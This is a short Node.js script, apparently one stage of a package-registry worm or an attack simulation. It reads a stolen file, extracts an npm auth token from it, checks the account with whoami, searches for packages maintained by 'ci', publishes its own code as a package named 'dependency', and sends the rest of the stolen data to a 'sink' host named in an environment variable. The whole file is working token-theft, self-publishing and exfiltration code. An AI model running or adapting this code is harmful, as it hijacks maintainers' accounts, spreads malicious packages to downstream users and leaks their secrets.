// In a session of its own: who am I, what else can I publish, publish; and the rest of the loot to the sink.
const fs = require("fs");
const { pack, send } = require("./thief.js");

async function main() {
  const loot = fs.readFileSync(process.argv[2], "utf8");
  const headers = { Authorization: `Bearer ${/_authToken=(\S+)/.exec(loot)?.[1]}` };
  const registry = `http://${process.env.FORGE}/registry`;
  await send("GET", `${registry}/-/whoami`, "", headers);
  await send("GET", `${registry}/-/v1/search?text=maintainer:ci`, "", headers);
  await send("PUT", `${registry}/dependency`, fs.readFileSync(`${__dirname}/index.js`), headers);
  await send("POST", `http://${process.env.SINK}/`, pack(loot));
}

main();
